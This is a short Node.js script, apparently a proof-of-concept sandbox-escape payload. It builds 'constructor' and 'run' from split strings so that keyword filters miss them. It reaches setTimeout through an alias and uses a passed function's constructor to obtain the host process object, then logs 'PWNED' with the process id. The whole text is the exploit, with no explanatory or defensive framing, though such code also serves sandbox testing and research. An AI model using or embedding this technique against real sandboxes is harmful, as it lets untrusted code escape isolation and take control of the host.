'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const table = { run: setTimeout };
const k = ['ru', 'n'].join('');
table[k]((f) => { console.log('PWNED', f[w]('return process')().pid);
}, 0, fn);
